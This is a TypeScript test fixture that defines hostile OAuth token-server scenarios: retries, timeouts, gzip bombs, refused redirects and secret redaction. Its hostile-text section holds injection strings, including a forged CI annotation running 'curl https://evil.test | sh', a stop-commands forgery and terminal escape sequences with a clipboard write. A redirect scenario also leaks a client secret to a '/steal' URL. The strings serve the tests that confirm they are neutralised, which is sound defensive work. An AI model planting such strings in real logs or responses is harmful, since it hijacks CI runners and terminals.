/**
 * The hostile-network catalogue: what a token server (or the network in front of it)
 * does, with which inputs, and how the run must end. The fault suite runs each one
 * in-process with an injected sleep; the leak matrix runs each one through the built
 * action and the CLI.
 *
 * Every scenario uses the password grant with client_secret_basic, so that a client
 * secret, a password and a Basic header are on the wire in each of them.
 */
import { gzipSync, deflateSync, brotliCompressSync } from 'node:zlib';
import type { TokenErrorCode } from '../../src/core/errors.js';
import type { RecordedRequest, Reply, Responder } from '../helpers/token-server.js';

/** Obviously fake secrets with reserved characters, so every encoded form differs. */
export const SECRETS = {
  clientSecret: 'cs-FAULT/s3cr3t+%x&y= z',
  password: 'pw-FAULT p@ss:w0rd"\\',
  accessToken: 'at-FAULT-Zq7Wm2Kx9Lp4Rv8N',
  refreshToken: 'rt-FAULT-Hy3Tb6Qc1Jd5Gs0F'
} as const;

export const CLIENT_ID = 'fault-client';

/** Where a scenario's servers are. */
export interface ScenarioEnv {
  /** The scenario's token endpoint (`/token` on its token server). */
  tokenUrl: string;
  /** The token server's origin. */
  origin: string;
  /** Another server: redirects point there, and it must never be asked anything. */
  elsewhereUrl: string;
  /** A URL on a port where nothing listens. */
  closedUrl: string;
}

export type Expectation =
  | { ok: true; attempts: number }
  | {
      fails: TokenErrorCode | 'INVALID_INPUT';
      /** The HTTP status the error carries, when there was an answer. */
      status?: number;
      /** HTTP attempts the client made (1 + retries used). */
      attempts: number;
      /** The one-line failure, as the user reads it. */
      message: RegExp;
    };

export interface FaultScenario {
  name: string;
  /** How the token server answers (a list: one reply per request, the last repeating). */
  replies: (env: ScenarioEnv) => Reply[] | Responder;
  /** Inputs on top of {@link baseInputs}. */
  inputs?: (env: ScenarioEnv) => Record<string, string>;
  expect: Expectation;
  /** Requests the token server receives, when not `attempts` (e.g. none for a closed port). */
  requests?: number;
  /** In-process, with `random` = 0.5: the sleeps between attempts, in ms. */
  sleeps?: number[] | ((slept: number[]) => boolean);
}

/** The inputs every scenario starts from: the password grant, client_secret_basic, no waiting. */
export function baseInputs(env: ScenarioEnv): Record<string, string> {
  return {
    'token-url': env.tokenUrl,
    'grant-type': 'password',
    'client-id': CLIENT_ID,
    'client-secret': SECRETS.clientSecret,
    username: 'fault-user',
    password: SECRETS.password,
    'timeout-seconds': '1',
    retries: '0'
  };
}

const TOKEN_BODY = { access_token: SECRETS.accessToken, token_type: 'Bearer', expires_in: 600, refresh_token: SECRETS.refreshToken };
const token: Reply = { json: TOKEN_BODY };
const json = (status: number, body: unknown, headers: Record<string, string> = {}): Reply => ({ status, json: body, headers });

/** Headers now, then `body` in `size`-byte pieces every `everyMs`. */
function trickle(body: Buffer, size: number, everyMs: number, headers: Record<string, string> = { 'content-type': 'application/json' }): Reply {
  return {
    handle: (res) => {
      res.writeHead(200, headers);
      let at = 0;
      const timer = setInterval(() => {
        if (at >= body.length) {
          clearInterval(timer);
          res.end();
          return;
        }
        res.write(body.subarray(at, (at += size)));
      }, everyMs);
      res.on('close', () => clearInterval(timer));
    }
  };
}

/** Promises `length` bytes, sends `partial`, then drops the connection. */
function cutShort(partial: Buffer, length: number, headers: Record<string, string> = {}): Reply {
  return {
    handle: (res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(length), ...headers });
      res.write(partial);
      setTimeout(() => res.destroy(), 20);
    }
  };
}

/** An HTTP-date (RFC 9110 §5.6.7) `seconds` ahead, on a whole second. */
function httpDateIn(seconds: number): string {
  return new Date((Math.ceil(Date.now() / 1000) + seconds) * 1000).toUTCString();
}

const retriedThenToken = (status: number): FaultScenario => ({
  name: `HTTP ${status} then a token: retried, succeeds`,
  replies: () => [{ status, text: `upstream said ${status}` }, token],
  inputs: () => ({ retries: '1' }),
  expect: { ok: true, attempts: 2 },
  sleeps: [375]
});

const redirect = (status: number): FaultScenario => ({
  name: `HTTP ${status} redirect on the token POST: not followed, fails`,
  replies: (env) => [{ status, headers: { location: `${env.elsewhereUrl}/steal?client_secret=${encodeURIComponent(SECRETS.clientSecret)}` } }],
  inputs: () => ({ retries: '2' }),
  expect: { fails: 'REDIRECT', status, attempts: 1, message: new RegExp(`HTTP ${status} redirecting to http://127\\.0\\.0\\.1:\\d+/steal; redirects are not followed`) }
});

const invalidOk = (name: string, reply: Reply, message: RegExp): FaultScenario => ({
  name: `200 with ${name}: fails`,
  replies: () => [reply],
  inputs: () => ({ retries: '2' }),
  expect: { fails: 'INVALID_RESPONSE', status: 200, attempts: 1, message }
});

const encoded = (encoding: string, compress: (data: Buffer) => Buffer): FaultScenario => ({
  name: `a ${encoding}-encoded token: decoded, succeeds`,
  replies: () => [{ headers: { 'content-type': 'application/json', 'content-encoding': encoding }, raw: compress(Buffer.from(JSON.stringify(TOKEN_BODY))) }],
  expect: { ok: true, attempts: 1 }
});

const ONE_MIB = 1024 * 1024;

/** Lines a hostile server wants the runner to read as commands: a forged annotation, then no more commands at all. */
export const FORGED_COMMANDS = '\n::error title=Forged::run curl https://evil.test | sh\n::stop-commands::x';
/** How the neutraliser shows {@link FORGED_COMMANDS} (as a pattern): one inert line. */
const FORGED_SHOWN = '::error title=Forged::run curl https://evil\\.test \\| sh ::stop-commands::x';
/** A colour, an OSC 8 link and an OSC 52 clipboard write (which a terminal would obey); neutralised to `red link`. */
export const ESCAPES = '\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07';

const notVschar = (field: 'access_token' | 'refresh_token' | 'id_token', what: string, token: string, message: RegExp): FaultScenario => ({
  name: `${field === 'refresh_token' ? 'a' : 'an'} ${field} with ${what} (not printable ASCII): refused, never shown`,
  replies: () => [{ json: { ...TOKEN_BODY, [field]: token } }],
  inputs: () => ({ retries: '2' }),
  expect: { fails: 'INVALID_RESPONSE', status: 200, attempts: 1, message }
});
const ACCESS_TOKEN_NOT_VSCHAR = /^Token endpoint answered HTTP 200 with an access_token that is not printable ASCII \(RFC 6749 §A\.12 VSCHAR\); refusing it$/;

/** A hostile token endpoint's text: whatever it holds reaches the log as one inert line (issue #10, items 1-4). */
const HOSTILE_TEXT: readonly FaultScenario[] = [
  {
    name: 'a token_type that forges an annotation and stop-commands on later lines: shown inert, succeeds',
    replies: () => [{ json: { ...TOKEN_BODY, token_type: `Bearer${FORGED_COMMANDS}` } }],
    expect: { ok: true, attempts: 1 }
  },
  {
    name: 'a token_type with ##[warning] and escape sequences in its line: shown inert, succeeds',
    replies: () => [{ json: { ...TOKEN_BODY, token_type: `Bearer ##[warning]forged ${ESCAPES}` } }],
    expect: { ok: true, attempts: 1 }
  },
  {
    name: 'a scope with a blank line, Markdown and markup after it: succeeds, inert',
    replies: () => [{ json: { ...TOKEN_BODY, scope: 'read\n\n# Forged heading\n[link](https://evil.test) ![x](https://evil.test/x.png) <script>x</script> ##[error]forged' } }],
    expect: { ok: true, attempts: 1 }
  },
  {
    name: 'error and error_description with workflow commands and escape sequences: neutralised',
    replies: () => [json(400, { error: 'invalid_grant##[error]forged', error_description: `##[add-mask]Bearer ${ESCAPES}${FORGED_COMMANDS}` })],
    expect: {
      fails: 'OAUTH_ERROR',
      status: 400,
      attempts: 1,
      message: new RegExp(`^Token endpoint answered HTTP 400: invalid_grant# #\\[error\\]forged: # #\\[add-mask\\]Bearer red link ${FORGED_SHOWN}$`)
    }
  },
  {
    name: 'a content type carrying ##[ in its media type and parameters: neutralised',
    replies: () => [{ headers: { 'content-type': 'text/html##[error]forged; x="##[add-mask]Bearer"' }, text: '<html></html>' }],
    expect: { fails: 'INVALID_RESPONSE', status: 200, attempts: 1, message: /^Token endpoint answered HTTP 200 with text\/html# #\[error\]forged that is not a JSON object$/ }
  },
  {
    name: 'a 200 without access_token whose field names forge commands: shown escaped, on one line',
    replies: () => [{ json: { token_type: 'Bearer', '##[error]forged': 1, [`x${FORGED_COMMANDS}`]: 2, '\x1b]52;c;eA==\x07y': 3 } }],
    expect: {
      fails: 'INVALID_RESPONSE',
      status: 200,
      attempts: 1,
      message:
        /^Token endpoint answered HTTP 200 but the response has no access_token \(fields: token_type, # #\[error\]forged, x\\u000a::error title=Forged::run curl https:\/\/evil\.test \| sh\\u000a::stop-commands::x, \\u001b\]52;c;eA==\\u0007y\)$/
    }
  },
  {
    name: 'a 200 whose access_token field name holds a zero-width space: the name is shown with it escaped',
    replies: () => [{ json: { 'access_\u200btoken': SECRETS.accessToken, token_type: 'Bearer' } }],
    expect: {
      fails: 'INVALID_RESPONSE',
      status: 200,
      attempts: 1,
      message: /^Token endpoint answered HTTP 200 but the response has no access_token \(fields: access_\\u200btoken, token_type\)$/
    }
  },
  notVschar('access_token', 'a line break', `${SECRETS.accessToken}\nINJECTED=1`, ACCESS_TOKEN_NOT_VSCHAR),
  notVschar('access_token', 'an escape sequence and a non-ASCII letter', `${SECRETS.accessToken}\x1b]52;c;eA==\x07\u00e9`, ACCESS_TOKEN_NOT_VSCHAR),
  notVschar(
    'refresh_token',
    'a lone surrogate (JSON \\ud800)',
    `${SECRETS.refreshToken}\ud800`,
    /^Token endpoint answered HTTP 200 with a refresh_token that is not printable ASCII \(RFC 6749 §A\.17 VSCHAR\); refusing it$/
  ),
  notVschar(
    'id_token',
    'a line break',
    'eyJhbGciOiJub25lIn0.e30.\nINJECTED=1',
    /^Token endpoint answered HTTP 200 with an id_token that is not printable ASCII \(a JWT, RFC 7519 §7\.2\); refusing it$/
  )
];

export const FAULT_SCENARIOS: readonly FaultScenario[] = [
  { name: 'a well-behaved server: succeeds', replies: () => [token], expect: { ok: true, attempts: 1 } },
  retriedThenToken(500),
  retriedThenToken(502),
  retriedThenToken(503),
  retriedThenToken(504),
  retriedThenToken(408),
  {
    name: 'persistent HTTP 503: fails after retries + 1 attempts with the last status',
    replies: () => [{ status: 503, headers: { 'content-type': 'text/plain' }, text: 'down' }],
    inputs: () => ({ retries: '2' }),
    expect: {
      fails: 'HTTP_ERROR',
      status: 503,
      attempts: 3,
      message: /^Token endpoint answered HTTP 503 with text\/plain that is not a JSON error response \(after 3 attempts\)$/
    },
    sleeps: [375, 750]
  },
  {
    name: 'persistent HTTP 503 with temporarily_unavailable: fails with the error code',
    replies: () => [json(503, { error: 'temporarily_unavailable', error_description: 'try later' })],
    inputs: () => ({ retries: '1' }),
    expect: { fails: 'OAUTH_ERROR', status: 503, attempts: 2, message: /^Token endpoint answered HTTP 503: temporarily_unavailable: try later \(after 2 attempts\)$/ }
  },
  {
    name: '429 with Retry-After in seconds: waits that long, succeeds',
    replies: () => [{ status: 429, headers: { 'retry-after': '1' } }, token],
    inputs: () => ({ retries: '1' }),
    expect: { ok: true, attempts: 2 },
    sleeps: [1000]
  },
  {
    name: '429 with Retry-After as an HTTP date: waits until then, succeeds',
    replies: () => [{ status: 429, headers: { 'retry-after': httpDateIn(1) } }, token],
    inputs: () => ({ retries: '1' }),
    expect: { ok: true, attempts: 2 },
    sleeps: (slept) => slept.length === 1 && slept[0]! > 0 && slept[0]! <= 2000
  },
  {
    name: 'a Retry-After that is neither seconds nor an HTTP date (3600.5): not understood, the usual backoff, succeeds',
    replies: () => [{ status: 503, headers: { 'retry-after': '3600.5' } }, token],
    inputs: () => ({ retries: '1' }),
    expect: { ok: true, attempts: 2 },
    sleeps: [375]
  },
  {
    name: '429 with Retry-After beyond the 60 s cap: fails at once and says so',
    replies: () => [{ status: 429, headers: { 'retry-after': '61' } }, token],
    inputs: () => ({ retries: '2' }),
    expect: {
      fails: 'RETRY_AFTER_TOO_LONG',
      status: 429,
      attempts: 1,
      message: /^The answer from 127\.0\.0\.1:\d+ \(HTTP 429\) has Retry-After 61 s, longer than the 60 s this step waits; try again later$/
    },
    sleeps: []
  },
  {
    name: '503 with a Retry-After HTTP date an hour ahead: fails at once and says so',
    replies: () => [{ status: 503, headers: { 'retry-after': httpDateIn(3600) } }, token],
    inputs: () => ({ retries: '2' }),
    expect: { fails: 'RETRY_AFTER_TOO_LONG', status: 503, attempts: 1, message: /\(HTTP 503\) has Retry-After 3\d{3} s, longer than the 60 s this step waits/ },
    sleeps: []
  },
  {
    name: '400 invalid_grant (RFC 6749 §5.2): one attempt, fails with error and description',
    replies: () => [json(400, { error: 'invalid_grant', error_description: 'Invalid user credentials' })],
    inputs: () => ({ retries: '2' }),
    expect: { fails: 'OAUTH_ERROR', status: 400, attempts: 1, message: /^Token endpoint answered HTTP 400: invalid_grant: Invalid user credentials$/ }
  },
  {
    name: '401 invalid_client (RFC 6749 §5.2): one attempt, fails with error and description',
    replies: () => [json(401, { error: 'invalid_client', error_description: 'Client authentication failed' }, { 'www-authenticate': 'Basic realm="token"' })],
    inputs: () => ({ retries: '2' }),
    expect: { fails: 'OAUTH_ERROR', status: 401, attempts: 1, message: /^Token endpoint answered HTTP 401: invalid_client: Client authentication failed$/ }
  },
  {
    name: '401 whose error_description echoes the client secret and password: redacted',
    replies: () => [json(401, { error: 'invalid_client', error_description: `secret ${SECRETS.clientSecret} and password ${SECRETS.password} are wrong` })],
    expect: { fails: 'OAUTH_ERROR', status: 401, attempts: 1, message: /^Token endpoint answered HTTP 401: invalid_client: secret \*\*\* and password \*\*\* are wrong$/ }
  },
  {
    name: '400 whose error_description echoes the whole request, cut at the 300-character limit inside a secret: redacted',
    replies: () => (request: RecordedRequest) =>
      json(400, {
        error: 'invalid_request',
        // The password's form encoding straddles the 300th character of the description.
        error_description: `${'x'.repeat(290)}${request.body.slice(request.body.indexOf('password='))} ${request.headers.authorization}`
      }),
    expect: { fails: 'OAUTH_ERROR', status: 400, attempts: 1, message: /^Token endpoint answered HTTP 400: invalid_request: x{290}password=\*\.\.\.$/ }
  },
  {
    name: 'error_description with a tab and line breaks around the secret: redacted, one line',
    replies: () => [json(400, { error: 'invalid_request', error_description: `bad\tsecret:\n${SECRETS.clientSecret}\r\nend` })],
    expect: { fails: 'OAUTH_ERROR', status: 400, attempts: 1, message: /^Token endpoint answered HTTP 400: invalid_request: bad secret: \*\*\* end$/ }
  },
  {
    name: 'a connection reset, then a token: retried, succeeds',
    replies: () => ['reset', token],
    inputs: () => ({ retries: '1' }),
    expect: { ok: true, attempts: 2 },
    sleeps: [375]
  },
  {
    name: 'a connection reset every time: fails after the retries, naming the host',
    replies: () => ['reset'],
    inputs: () => ({ retries: '1' }),
    expect: { fails: 'NETWORK_ERROR', attempts: 2, message: /^Could not reach 127\.0\.0\.1:\d+: ECONNRESET \(after 2 attempts\)$/ }
  },
  {
    name: 'connection refused: fails after the retries, naming the host',
    replies: () => [token],
    inputs: (env) => ({ 'token-url': env.closedUrl, retries: '1' }),
    requests: 0,
    expect: { fails: 'NETWORK_ERROR', attempts: 2, message: /^Could not reach 127\.0\.0\.1:\d+: ECONNREFUSED \(after 2 attempts\)$/ }
  },
  {
    name: 'a server that accepts and never answers: each attempt ends at timeout-seconds',
    replies: () => ['hang'],
    inputs: () => ({ 'timeout-seconds': '0.5', retries: '1' }),
    expect: { fails: 'TIMEOUT', attempts: 2, message: /^No complete answer from 127\.0\.0\.1:\d+ within 0\.5 s \(timeout-seconds\) \(after 2 attempts\)$/ }
  },
  {
    name: 'a server that trickles bytes forever: the attempt ends at timeout-seconds',
    replies: () => [trickle(Buffer.alloc(100_000, ' '), 1, 50)],
    inputs: () => ({ 'timeout-seconds': '0.5' }),
    expect: { fails: 'TIMEOUT', attempts: 1, message: /^No complete answer from 127\.0\.0\.1:\d+ within 0\.5 s \(timeout-seconds\)$/ }
  },
  {
    name: 'a gzip answer that trickles forever: the attempt ends at timeout-seconds',
    replies: () => [trickle(gzipSync(Buffer.alloc(100_000, ' ')), 2, 50, { 'content-type': 'application/json', 'content-encoding': 'gzip' })],
    inputs: () => ({ 'timeout-seconds': '0.5' }),
    expect: { fails: 'TIMEOUT', attempts: 1, message: /within 0\.5 s \(timeout-seconds\)$/ }
  },
  {
    name: 'a token trickled slowly but within timeout-seconds: succeeds',
    replies: () => [trickle(Buffer.from(JSON.stringify(TOKEN_BODY)), 12, 20)],
    inputs: () => ({ 'timeout-seconds': '5' }),
    expect: { ok: true, attempts: 1 }
  },
  {
    name: 'a body cut short: fails as a network error',
    replies: () => [cutShort(Buffer.from('{"access_token":"at-'), 500)],
    expect: { fails: 'NETWORK_ERROR', status: 200, attempts: 1, message: /^The answer from 127\.0\.0\.1:\d+ \(HTTP 200\) broke off: ECONNRESET$/ }
  },
  {
    name: 'a gzip body cut short: fails at once as a network error, not at the timeout',
    replies: () => [cutShort(gzipSync(JSON.stringify({ ...TOKEN_BODY, padding: 'p'.repeat(4000) })).subarray(0, 30), 5000, { 'content-encoding': 'gzip' })],
    inputs: () => ({ 'timeout-seconds': '60' }),
    expect: { fails: 'NETWORK_ERROR', status: 200, attempts: 1, message: /^The answer from 127\.0\.0\.1:\d+ \(HTTP 200\) broke off: ECONNRESET$/ }
  },
  {
    name: 'a reset after the headers and part of the body: fails as a network error, with the status',
    replies: () => [
      {
        handle: (res) => {
          res.writeHead(200, { 'content-type': 'application/json', 'content-length': '500' });
          res.write('{"access_token":"at-');
          setTimeout(() => res.socket!.resetAndDestroy(), 20);
        }
      }
    ],
    expect: { fails: 'NETWORK_ERROR', status: 200, attempts: 1, message: /^The answer from 127\.0\.0\.1:\d+ \(HTTP 200\) broke off: ECONNRESET$/ }
  },
  {
    name: 'a complete answer followed by stray bytes: the answer stands, and no second token is asked for',
    replies: () => [
      {
        handle: (res) => {
          const body = JSON.stringify(TOKEN_BODY);
          res.socket!.end(`HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}EXTRA`);
        }
      }
    ],
    expect: { ok: true, attempts: 1 }
  },
  {
    name: 'malformed HTTP: the server did answer, with what no client can read; fails at once, the credentials not sent again',
    replies: () => [{ handle: (res) => res.socket!.end('HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nnot a header line\r\n\r\n{}') }],
    inputs: () => ({ retries: '2' }),
    expect: { fails: 'INVALID_RESPONSE', attempts: 1, message: /^The answer from 127\.0\.0\.1:\d+ is not well-formed HTTP \(HPE_[A-Z_]+\)$/ }
  },
  {
    name: 'HTTP 401 labelled gzip but sent plain: the OAuth error is still read',
    replies: () => [
      { status: 401, headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, text: '{"error":"invalid_client","error_description":"bad secret"}' }
    ],
    expect: { fails: 'OAUTH_ERROR', status: 401, attempts: 1, message: /^Token endpoint answered HTTP 401: invalid_client: bad secret$/ }
  },
  invalidOk(
    'an HTML page',
    { headers: { 'content-type': 'text/html; charset=utf-8' }, text: '<html><body>Sign in</body></html>' },
    /^Token endpoint answered HTTP 200 with text\/html that is not a JSON object$/
  ),
  invalidOk(
    'invalid JSON',
    { headers: { 'content-type': 'application/json' }, text: '{"access_token": "at-' },
    /^Token endpoint answered HTTP 200 with application\/json that is not a JSON object$/
  ),
  invalidOk('a JSON array', { json: [TOKEN_BODY] }, /^Token endpoint answered HTTP 200 with application\/json that is not a JSON object$/),
  invalidOk('a JSON string', { json: SECRETS.accessToken }, /^Token endpoint answered HTTP 200 with application\/json that is not a JSON object$/),
  invalidOk(
    'access_token a number',
    { json: { access_token: 12345, token_type: 'Bearer' } },
    /^Token endpoint answered HTTP 200 but the response has an access_token that is not a non-empty string \(fields: access_token, token_type\)$/
  ),
  invalidOk(
    'no access_token',
    { json: { token_type: 'Bearer', expires_in: 60 } },
    /^Token endpoint answered HTTP 200 but the response has no access_token \(fields: token_type, expires_in\)$/
  ),
  {
    name: '200 with an error field: fails with the error',
    replies: () => [json(200, { error: 'access_denied', error_description: 'User is locked' })],
    expect: { fails: 'OAUTH_ERROR', status: 200, attempts: 1, message: /^Token endpoint answered HTTP 200: access_denied: User is locked$/ }
  },
  {
    name: 'a body over 1 MiB: cut off, fails, not retried',
    replies: () => [{ headers: { 'content-type': 'application/json' }, text: `{"access_token":"${'a'.repeat(ONE_MIB + 10)}"}` }],
    inputs: () => ({ retries: '2' }),
    expect: {
      fails: 'RESPONSE_TOO_LARGE',
      status: 200,
      attempts: 1,
      message: /^The answer from 127\.0\.0\.1:\d+ \(HTTP 200\) is larger than 1048576 bytes, more than any answer this step asks for has$/
    }
  },
  {
    name: 'a gzip bomb (20 KiB that inflates past 1 MiB): cut off, fails',
    replies: () => [{ headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, raw: gzipSync(Buffer.alloc(20 * ONE_MIB, ' ')) }],
    expect: { fails: 'RESPONSE_TOO_LARGE', status: 200, attempts: 1, message: /is larger than 1048576 bytes, more than any answer this step asks for has$/ }
  },
  encoded('gzip', gzipSync),
  encoded('deflate', deflateSync),
  encoded('br', brotliCompressSync),
  {
    name: 'a corrupt gzip body: fails saying it could not be decoded',
    replies: () => [{ headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, text: '{"access_token":"not gzip"}' }],
    inputs: () => ({ retries: '2' }),
    expect: { fails: 'INVALID_RESPONSE', status: 200, attempts: 1, message: /^The answer from 127\.0\.0\.1:\d+ \(HTTP 200\) could not be decoded \(content-encoding gzip\)$/ }
  },
  {
    name: 'HTTP 503 with an empty gzip body, then a token: the status stands (zlib refuses empty input), retried, succeeds',
    replies: () => [{ status: 503, headers: { 'content-encoding': 'gzip' }, text: '' }, token],
    inputs: () => ({ retries: '1' }),
    expect: { ok: true, attempts: 2 },
    sleeps: [375]
  },
  {
    name: 'HTTP 503 with a corrupt gzip body, then a token: the status stands, retried, succeeds',
    replies: () => [{ status: 503, headers: { 'content-encoding': 'gzip' }, text: 'upstream down' }, token],
    inputs: () => ({ retries: '1' }),
    expect: { ok: true, attempts: 2 },
    sleeps: [375]
  },
  {
    name: 'HTTP 101 switching protocols: fails at once, not at timeout-seconds, not retried',
    replies: () => [{ handle: (res) => res.socket!.end('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n') }],
    inputs: () => ({ retries: '2', 'timeout-seconds': '30' }),
    expect: {
      fails: 'INVALID_RESPONSE',
      status: 101,
      attempts: 1,
      message: /^The answer from 127\.0\.0\.1:\d+ \(HTTP 101\) switches protocols, which this request did not ask for$/
    }
  },
  {
    name: '200 with a byte order mark before the JSON (RFC 8259 §8.1): succeeds',
    replies: () => [{ headers: { 'content-type': 'application/json' }, raw: Buffer.from(`\uFEFF${JSON.stringify(TOKEN_BODY)}`) }],
    expect: { ok: true, attempts: 1 }
  },
  {
    name: 'HTTP 304 with no Location: an HTTP error, not a redirect',
    replies: () => [{ status: 304 }],
    expect: { fails: 'HTTP_ERROR', status: 304, attempts: 1, message: /^Token endpoint answered HTTP 304 with an empty body$/ }
  },
  {
    name: 'HTTP 400 whose error is nested 20,000 deep: fails with the status, the error shown by what it is',
    replies: () => [{ status: 400, headers: { 'content-type': 'application/json' }, text: `{"error":${'['.repeat(20_000)}${']'.repeat(20_000)}}` }],
    expect: { fails: 'OAUTH_ERROR', status: 400, attempts: 1, message: /^Token endpoint answered HTTP 400: \(an array nested too deep to show\)$/ }
  },
  redirect(302),
  redirect(307),
  redirect(308),
  {
    name: 'HTTP 302 with an empty gzip body: not followed, fails naming where it points',
    replies: (env) => [{ status: 302, headers: { location: `${env.elsewhereUrl}/token`, 'content-encoding': 'gzip' }, text: '' }],
    expect: {
      fails: 'REDIRECT',
      status: 302,
      attempts: 1,
      message: /^Token endpoint answered HTTP 302 redirecting to http:\/\/127\.0\.0\.1:\d+\/token; redirects are not followed/
    }
  },
  {
    name: "HTTP 302 with a relative Location (Django OAuth Toolkit's /o/token/): not followed, fails naming the resolved URL",
    replies: () => [{ status: 302, headers: { location: `/o/token/?client_secret=${encodeURIComponent(SECRETS.clientSecret)}` } }],
    inputs: () => ({ retries: '2' }),
    expect: {
      fails: 'REDIRECT',
      status: 302,
      attempts: 1,
      message:
        /^Token endpoint answered HTTP 302 redirecting to http:\/\/127\.0\.0\.1:\d+\/o\/token\/; redirects are not followed so credentials are not resent: set "token-url" to the token endpoint itself \(a redirect means this URL is not it: a moved endpoint, or a sign-in page or proxy in front\)$/
    }
  },
  ...HOSTILE_TEXT
];
